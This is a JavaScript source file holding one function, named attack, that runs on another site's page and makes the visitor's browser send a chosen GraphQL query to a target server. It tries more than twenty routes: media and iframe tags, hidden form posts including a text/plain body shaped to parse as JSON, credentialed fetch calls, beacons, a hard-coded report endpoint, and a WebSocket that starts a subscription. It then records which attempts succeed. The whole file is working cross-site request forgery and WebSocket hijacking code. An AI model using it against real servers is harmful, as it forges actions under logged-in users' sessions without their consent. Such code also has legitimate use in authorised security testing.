// What a page of another site can have a browser send to a server: each way once, for one query of GraphQL.
// Gives what the page saw of each: loaded, failed, opened, or nothing within the time.
async function attack(target, query, options = {}) {
  const within = options.within ?? 1500;
  const address = `${target}/graphql?query=${encodeURIComponent(query)}`;
  const body = JSON.stringify({ query });
  const json = new Blob([body], { type: "application/json" });
  const seen = {};
  const one = (name, start) =>
    new Promise((resolve) => {
      const end = (what) => {
        seen[name] ??= what;
        resolve();
      };
      setTimeout(() => end("nothing"), within);
      start(end);
    });
  const element = (tag, property) => (end) => {
    const made = document.createElement(tag);
    made.onload = () => end("loaded");
    made.onerror = () => end("failed");
    made[property] = address;
    if (tag === "link") made.rel = "stylesheet";
    document.body.append(made);
  };
  const form = (method, enctype, fields, target = "hidden") => () => {
    const frame = document.createElement("iframe");
    const made = document.createElement("form");
    frame.name = `${target}${Math.random()}`;
    Object.assign(made, { method, enctype, action: address, target: target === "hidden" ? frame.name : target });
    for (const [name, value] of Object.entries(fields)) {
      const input = document.createElement("input");
      Object.assign(input, { name, value });
      made.append(input);
    }
    document.body.append(frame, made);
    made.submit();
  };
  const send = (request) => (end) =>
    fetch(address, { method: "POST", credentials: "include", ...request }).then(
      (reply) => reply.text().then((text) => end(`${reply.status} ${text}`)),
      () => end("failed"),
    );
  const typed = (type) => ({ headers: { "content-type": type }, body });
  await Promise.all([
    one("image", element("img", "src")),
    one("script", element("script", "src")),
    one("style", element("link", "href")),
    one("frame", element("iframe", "src")),
    one("object", element("object", "data")),
    one("form, get", form("get", "", { query })),
    one("form, text", form("post", "text/plain", { [body.slice(0, -1)]: "}" })),
    one("form, fields", form("post", "application/x-www-form-urlencoded", { query })),
    one("form, parts", form("post", "multipart/form-data", { query })),
    one("form, in a page of its own", form("post", "text/plain", { [body]: "" }, "_blank")),
    one("fetch, get", send({ method: "GET" })),
    one("fetch, get, no cors", send({ method: "GET", mode: "no-cors" })),
    one("fetch, json", send(typed("application/json"))),
    one("fetch, text", send(typed("text/plain"))),
    one("fetch, text that names json", send(typed("text/plain; application/json"))),
    one("fetch, text, no cors", send({ mode: "no-cors", ...typed("text/plain; application/json") })),
    one("fetch, nothing, no cors", send({ mode: "no-cors" })),
    one("fetch, put", send({ method: "PUT", ...typed("application/json") })),
    one("beacon", (end) => end(String(navigator.sendBeacon(address, body)))),
    one("beacon, json", (end) => end(String(navigator.sendBeacon(address, json)))),
    one("a page of its own", (end) => end(String(Boolean(window.open(address, "_blank"))))),
    one("report", (end) =>
      fetch(`${target}/report_asset_materialization/episodes`, { method: "POST", mode: "no-cors" }).then(
        (reply) => end(reply.type),
        () => end("failed"),
      ),
    ),
    one("socket", (end) => {
      const socket = new WebSocket(target.replace(/^http/, "ws") + (options.path ?? "/graphql"), options.protocol ?? "graphql-ws");
      socket.onerror = () => end("failed");
      socket.onopen = () => {
        socket.send(JSON.stringify({ type: "connection_init" }));
        socket.send(JSON.stringify({ type: "start", id: "1", payload: { query } }));
        end("opened");
      };
    }),
  ]);
  await new Promise((resolve) => setTimeout(resolve, 300));
  return seen;
}
